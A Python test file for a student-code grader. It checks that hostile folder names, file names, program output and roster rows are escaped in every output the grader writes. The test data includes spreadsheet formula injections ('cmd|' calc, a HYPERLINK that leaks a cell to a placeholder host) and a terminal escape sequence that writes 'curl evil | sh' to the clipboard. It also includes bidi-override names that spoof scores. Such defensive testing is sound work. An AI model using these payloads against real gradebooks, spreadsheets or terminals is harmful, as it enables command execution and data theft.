"""The grader's outputs hold against what a student controls: their folder's name, their
files' names, and everything their process says.

The attacks ``tests/submissions/attacks/out_*.py`` are graded here in one class beside
honest students whose names they collide with; a name attack says the folder name to
build it under (``FOLDER = ...``; some are not UTF-8, so the class is built at test time),
and ``PLACE = "file"`` puts it as a file at the top of the class folder.  Every output
surface is read back: the CSV cells, the terminal's bytes, the JSON, the Gradescope
folders, the Moodle and Canvas files, the class report's HTML and the rerun cache."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from box_gin.checker.grader import safe_judge_cases
from box_gin.checker.lms import lms_csv, parse_roster
from box_gin.checker.outputs import folder_name, gradebook_csv
from box_gin.checker.safe import csv_cell, quoted, visible
from box_gin.checker.submissions import display_name, find_submissions, student_key
from box_gin.checker.verdicts import localise, verdict_text
from box_gin.katas import BY_NAME, KATAS
from box_gin.katas.core import Returned

ROOT = Path(__file__).resolve().parent.parent
ATTACKS = ROOT / "tests" / "submissions" / "attacks"
SOLUTIONS = ROOT / "solutions"
TOTAL = sum(k.points for k in KATAS)
#: The honest students, named so that the attacks collide with them.
HONEST = ("ada", "zz_victim", "Café", "bob", "honest_loops")
#: Their names in the outputs: bob and BOB are two plain folders, a tie no rule settles,
#: so neither keeps the name (and the roster's bob matches neither: said, left empty).
SHOWN = {"bob": "bob~3"}
#: The honest students the roster can match.
MATCHED = tuple(h for h in HONEST if h not in SHOWN)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def out_attacks() -> list[Path]:
    return sorted(ATTACKS.glob("out_*.py"))


def _marker(path: Path, name: str) -> Any:
    for node in ast.parse(path.read_text(encoding="utf-8")).body:
        if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", None) == name:
            return ast.literal_eval(node.value)
    return None


def _copy_solutions(into: Path, loop_first: bool = False) -> None:
    shutil.copytree(SOLUTIONS, into, ignore=shutil.ignore_patterns(".*", "fr", "he", "hu",
                                                                   "id", "uk"))
    if loop_first:  # a looping cell first in every notebook, beside right answers
        for nb in into.glob("*.ipynb"):
            data = json.loads(nb.read_text(encoding="utf-8"))
            data["cells"].insert(0, {"cell_type": "code", "metadata": {}, "outputs": [],
                                     "execution_count": None, "source": "while True:\n    pass"})
            nb.write_text(json.dumps(data), encoding="utf-8")


def build_class(top: Path) -> tuple[Path, dict[bytes, str]]:
    """The class folder, and each attack's folder name (bytes) -> the attack's stem."""
    course = top / "class"
    course.mkdir()
    for name in HONEST:
        _copy_solutions(course / name, loop_first=name == "honest_loops")
    placed: dict[bytes, str] = {}
    base = os.fsencode(course)
    for path in out_attacks():
        folder = _marker(path, "FOLDER") or path.stem
        raw = folder if isinstance(folder, bytes) else folder.encode("utf-8")
        placed[raw] = path.stem
        if _marker(path, "PLACE") == "file":
            with open(base + b"/" + raw + b".py", "wb") as f:
                f.write(path.read_bytes())
            continue
        os.mkdir(base + b"/" + raw)
        with open(base + b"/" + raw + b"/" + path.name.encode(), "wb") as f:
            f.write(path.read_bytes())
    return course, placed


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    top = tmp_path_factory.mktemp("outputs")
    course, placed = build_class(top)
    out = top / "out"
    out.mkdir()
    roster = top / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["submission", "name", "idnumber"])
        for name in HONEST:  # the roster names them as the instructor typed them
            w.writerow([name.upper() if name == "ada" else name, f"Student {name}",
                        f"id-{name}"])
        w.writerow(["=cmd|' /c calc'!A0", "@evil", "-2+3"])  # a hostile roster row
    env = dict(os.environ, BOX_GIN_KEY_DIR=str(top / "key"), COLUMNS="200",
               LANG="C.UTF-8")
    command = [sys.executable, "-m", "box_gin.cli", "check", str(course),
               "--csv", str(out / "grades.csv"), "--json", str(out / "grades.json"),
               "--gradescope", str(out / "gs"), "--roster", str(roster),
               "--lms", "moodle", str(out / "moodle.csv"), "-j", "2", "--timeout", "3",
               "--budget", "20", "-v", "--lang", "en"]
    done = subprocess.run(command, env=env, capture_output=True, timeout=900, cwd=str(top))
    assert done.returncode == 0, (done.stdout[-3000:] + done.stderr[-3000:]).decode(
        "utf-8", "replace")
    report = top / "report.html"
    subprocess.run([sys.executable, "-m", "box_gin.cli", "report", str(out / "grades.json"),
                    "--html", str(report), "--lang", "en"], env=env, check=True,
                   capture_output=True, timeout=300)
    book = json.loads((out / "grades.json").read_text(encoding="utf-8"))
    return {"top": top, "out": out, "book": book, "placed": placed, "roster": roster,
            "stdout": done.stdout, "stderr": done.stderr,
            "report": report.read_text(encoding="utf-8"), "command": command, "env": env}


def _by_name(book: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {s["student"]: s for s in book["students"]}


def test_there_are_a_dozen_output_attacks_each_saying_what_it_tries() -> None:
    files = out_attacks()
    assert len(files) >= 12
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert text.startswith('"""') and text.index('"""', 3) > 10, path.name


def test_every_student_is_graded_once_and_honest_ones_keep_full_marks(graded) -> None:
    book = graded["book"]
    names = [s["student"] for s in book["students"]]
    keys = [s["key"] for s in book["students"]]
    assert len(names) == len(HONEST) + len(out_attacks())
    assert len(set(keys)) == len(keys) == len({k.casefold() for k in keys})
    students = _by_name(book)
    for name in HONEST:
        student = students[SHOWN.get(name, name)]
        assert student["score"] == TOTAL, (name, student["problems"])
    for s in book["students"]:
        if s["student"] not in {SHOWN.get(h, h) for h in HONEST}:
            assert s["score"] == 0, s["student"]


def test_names_are_shown_escaped_and_collisions_told_apart(graded) -> None:
    students = _by_name(graded["book"])
    assert "bad_\\xff\\xfe_name" in students
    assert "zz_\\u202e63 of 63 ada" in students
    assert "ok\\x1b]0;owned\\x07\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[2J\\x1b[1A" in students
    # The colliding names take a ~2, the honest folder keeps its own name.
    for loser in ("zz_victim.~2", "BOB~2", "Café~2", "zz_victim~2"):
        assert loser in students, sorted(students)
        assert students[loser]["score"] == 0
        assert any("graded as" in p for p in students[loser]["problems"])
    assert students["Café"]["key"] == "café" and students["bob~3"]["key"] == "bob~3"
    assert "bob" not in students and "BOB" not in students


def test_csv_cells_are_spreadsheet_safe_and_numbers_stay_numbers(graded) -> None:
    for name in ("grades.csv", "moodle.csv"):
        rows = list(csv.reader(io.StringIO((graded["out"] / name).read_text("utf-8"))))
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA), (name, cell)
    table = csv.DictReader(io.StringIO((graded["out"] / "grades.csv").read_text("utf-8")))
    by = {r["student"]: r for r in table}
    assert "'=HYPERLINK(\"https:example.invalid?leak=\"&A1,\"regrade\")" in by
    assert "'@SUM(1+1)*cmd|' -c calc'!A0" in by and "'\\t+cmd|' -c calc'!A0-1" not in by
    assert "\\t+cmd|' -c calc'!A0-1" in by  # the tab is shown, not kept
    for name in HONEST:
        line = by[SHOWN.get(name, name)]
        assert int(line["total"]) == TOTAL and int(line["max_score"]) == TOTAL
    moodle = list(csv.reader(io.StringIO((graded["out"] / "moodle.csv").read_text("utf-8"))))
    grades = {row[0]: row for row in moodle[1:]}
    for name in MATCHED:  # ADA in the roster is the folder ada
        row = grades[f"id-{name}"]
        assert int(row[1]) == TOTAL and row[2] == f"{TOTAL} of {TOTAL} points: every kata passed."
    assert grades["id-bob"][1] == ""  # the tie: no grade is given to either
    stderr = graded["stderr"].decode("utf-8")
    assert "BOB~2" in stderr and "bob~3" in stderr  # both said: not in the roster
    assert grades["'-2+3"][1] == ""  # the hostile roster row: neutralised, no grade


def test_the_terminal_gets_no_escape_bidi_or_spoofed_verdict(graded) -> None:
    for stream in (graded["stdout"], graded["stderr"]):
        assert b"\x1b" not in stream and b"\x07" not in stream and b"\r" not in stream
        text = stream.decode("utf-8")
        assert not BIDI.search(text)
        for line in text.splitlines():
            assert not line.strip().startswith(("why: the checker's", "\u2714 is_set: passed 5",
                                                "\u2714 is_run: passed 4")), line
    text = graded["stdout"].decode("utf-8")
    assert "[bold green]36 of 36 PASSED [link=file:passwd]click" in text  # shown as text
    assert 'raised RuntimeError: "x\\n  why: the checker' in text  # one quoted line


def test_the_json_keeps_student_text_as_quoted_values(graded) -> None:
    students = _by_name(graded["book"])
    spoof = students["out_spoof_verdict_lines"]["katas"]["is_set"]
    returned = spoof["verdict"]["failure"]["returned"]
    assert returned["raised"] == "RuntimeError" and returned["message"].startswith('"x\\n')
    run = students["out_spoof_verdict_lines"]["katas"]["is_run"]["verdict"]["failure"]
    assert run["returned"]["message"] == (
        '"\\r\u2714 is_run: passed 4 public and 150 hidden tests.\\x1b[2K"')
    assert all(not line.strip().startswith("\u2714") for line in spoof["feedback"].splitlines())
    typed = students["out_spoof_type_name"]["katas"]
    assert typed["is_set"]["verdict"]["failure"]["returned"]["raised"] == "Exception"
    assert typed["card_value"]["verdict"]["failure"]["returned"]["raised"] == "Exception"
    crash = students["out_judge_crash_types"]
    assert not any("checker failed" in p for p in crash["problems"])
    assert all(e["found"] for n, e in crash["katas"].items() if n in (
        "roles_from_cut", "next_roles", "best_melds", "deal", "is_set", "score_hand"))


def test_gradescope_folders_are_one_per_student_with_their_own_result(graded) -> None:
    gs = graded["out"] / "gs"
    folders = sorted(p for p in gs.iterdir() if p.is_dir())
    book = graded["book"]
    assert len(folders) == len(book["students"])
    assert len({f.name.casefold() for f in folders}) == len(folders)
    for s in book["students"]:
        data = json.loads((gs / folder_name(s) / "results.json").read_text("utf-8"))
        assert data["score"] == s["score"]
    assert json.loads((gs / "zz_victim" / "results.json").read_text())["score"] == TOTAL


def test_canvas_file_matches_the_roster_by_key_and_is_safe(graded) -> None:
    roster = parse_roster(graded["roster"].read_text(encoding="utf-8"))
    out = lms_csv("canvas", graded["book"]["students"], roster, "=Katas")
    rows = list(csv.reader(io.StringIO(out.text)))
    assert rows[0][-1] == "'=Katas"
    for row in rows:
        assert not any(c.startswith(FORMULA) for c in row), row
    grades = {row[0]: row[-1] for row in rows[2:]}
    for name in MATCHED:
        assert int(grades[f"Student {name}"]) == TOTAL  # ADA in the roster is ada
    assert "'@evil" in grades and grades["'@evil"] == ""


def test_the_report_reads_structured_verdicts_and_escapes_names(graded) -> None:
    page = graded["report"]
    assert "\x1b" not in page and not BIDI.search(page)
    assert "regrade by hand</p>" not in page  # the spoofed why: is no kata's reason
    assert page.count('<details class="bg-student"') == len(graded["book"]["students"])
    assert "bad_\\xff\\xfe_name" in page
    assert page.count("<script") == 1  # the page's own print hook, nothing a name made


def test_a_rerun_reads_the_cache_with_a_non_utf8_name(graded) -> None:
    cache = graded["out"] / "grades.csv.box-gin-cache"
    entries = json.loads(cache.read_text("utf-8"))["entries"]
    assert "bad_\\xff\\xfe_name" in entries
    done = subprocess.run(graded["command"], env=graded["env"], capture_output=True,
                          timeout=600, cwd=str(graded["top"]))
    assert done.returncode == 0
    assert b"unchanged submissions taken from the last run" in done.stderr
    again = json.loads((graded["out"] / "grades.json").read_text("utf-8"))
    assert {s["key"]: s["score"] for s in again["students"]} == {
        s["key"]: s["score"] for s in graded["book"]["students"]}


# -- the pieces, on their own ---------------------------------------------------------


@pytest.mark.parametrize(("raw", "shown"), [
    (b"bad_\xff\xfe_name", "bad_\\xff\\xfe_name"),
    ("Cafe\u0301".encode(), "Café"),
    ("a\x1b[2Jb", "a\\x1b[2Jb"),
    ("\u202eevil", "\\u202eevil"),
    ("tab\there", "tab\\there"),
    ("", "_"),
])
def test_display_name(raw: bytes | str, shown: str) -> None:
    assert display_name(raw) == shown
    assert unicodedata.is_normalized("NFC", display_name(raw))


def test_keys_fold_case_form_and_trailing_dots() -> None:
    assert student_key("Bob") == student_key("BOB") == student_key("bob. ") == "bob"
    assert student_key("Café") == student_key(unicodedata.normalize("NFD", "Café"))
    assert student_key("Straße") == student_key("STRASSE")
    assert student_key("a~2") != student_key("a")


def test_collisions_are_told_apart_the_same_way_whatever_the_order(tmp_path: Path) -> None:
    for order in (0, 1):
        top = tmp_path / f"c{order}"
        top.mkdir()
        names = ["zz", "ZZ.", "zz "] if order == 0 else ["zz ", "ZZ.", "zz"]
        for name in names:
            (top / name).mkdir()
            (top / name / "01.py").write_text("def is_set(c):\n    return False\n")
        (top / "zz.py").write_text("def is_set(c):\n    return False\n")
        subs = find_submissions([top])
        assert sorted(s.student for s in subs) == ["ZZ.~2", "zz", "zz ~2", "zz~2"]
        assert {s.student: s.files[0].parent.name for s in subs}["zz"] == "zz"
        assert len({s.key for s in subs}) == 4


def test_csv_cell_and_quoted() -> None:
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell(3) == 3 and csv_cell(2.5) == 2.5 and csv_cell("ada") == "ada"
    assert quoted('a\n"b"\x1b') == '"a\\n\\"b\\"\\x1b"'
    assert visible("\u2066x\u2069") == "\\u2066x\\u2069"
    assert len(quoted("x" * 1000)) < 210


def test_gradebook_csv_reads_back_as_numbers() -> None:
    result = {"student": "=1+2", "score": 1, "max_score": TOTAL,
              "katas": {k.name: {"points": 0} for k in KATAS}}
    rows = list(csv.reader(io.StringIO(gradebook_csv([result]))))
    assert rows[1][0] == "'=1+2" and rows[1][-2:] == ["1", str(TOTAL)]


def test_a_judge_that_raises_fails_only_its_case() -> None:
    import dataclasses

    original = BY_NAME["next_roles"]

    def judge(args: Any, expected: Any, value: Any) -> str | None:
        if value == expected:
            return None
        return "wrong" if {value: 1} else None  # hashes the answer: a list raises TypeError

    kata = dataclasses.replace(original, judge=judge)
    cases = list(kata.public)[:2]
    expected = [kata.expected(a) for a in cases]
    failures = safe_judge_cases(kata, cases, [Returned([["box"]]), Returned(expected[1])],
                                expected)
    assert len(failures) == 1
    assert failures[0].problem == ("it returned a value of type `list` where a value of "
                                   f"type `{type(expected[0]).__name__}` was expected")


def test_the_verdict_renders_in_the_language_asked(tmp_path: Path) -> None:
    from box_gin.cli import main

    sub = tmp_path / "hu"
    sub.mkdir()
    shutil.copy(ROOT / "exercises" / "hu" / "01_cards_and_dealing.hu.ipynb", sub)
    out = tmp_path / "g.json"
    assert main(["check", str(sub / "01_cards_and_dealing.hu.ipynb"), "--json", str(out), "-q",
                 "--no-cache"]) == 0
    student = json.loads(out.read_text("utf-8"))["students"][0]
    assert student["language"] == "hu"
    entry = student["katas"]["card_value"]
    assert "nem sikerült" in entry["feedback"] and "`" not in entry["feedback"]
    localise([student], "fr")
    assert "pas réussi" in entry["feedback"] or "échoué" in entry["feedback"], entry["feedback"]
    from box_gin.checker.verdicts import language

    with language("en"):
        assert "not passed" in verdict_text(entry["verdict"])


def test_an_entry_that_cannot_be_written_costs_only_itself(tmp_path: Path) -> None:
    from box_gin.checker.outputs import Cache, write_outputs

    cache = Cache(tmp_path / "c.cache", seed=7, key=b"k" * 32)
    cache.put("ok", "d1", {"student": "ok", "score": 1})
    cache.put("bad", "d2", {"student": "bad_\udcff", "score": 0})  # cannot be UTF-8
    assert cache.save() is None
    again = Cache(tmp_path / "c.cache", seed=7, key=b"k" * 32)
    assert again.get("ok", "d1") == {"student": "ok", "score": 1}
    assert again.get("bad", "d2") is None
    good = {"student": "ok", "key": "ok", "score": 1, "max_score": TOTAL,
            "katas": {k.name: {"passed": False, "points": 0, "feedback": ""} for k in KATAS}}
    bad = dict(good, student="bad_\udcff", key="bad")
    (tmp_path / "gs").mkdir()
    (tmp_path / "gs" / "ok").write_text("a file where the folder should be")
    written, errors = write_outputs([good, bad], seed=7, isolation="none",
                                    csv_path=tmp_path / "g.csv", json_path=tmp_path / "g.json",
                                    gradescope_dir=tmp_path / "gs")
    assert len(errors) == 1 and "ok" in errors[0]  # only the blocked folder is lost
    assert tmp_path / "gs" / "bad" / "results.json" in written
    assert "bad_\\udcff" in (tmp_path / "g.csv").read_text("utf-8")
    assert json.loads((tmp_path / "g.json").read_text("utf-8"))["students"][0]["key"] == "ok"
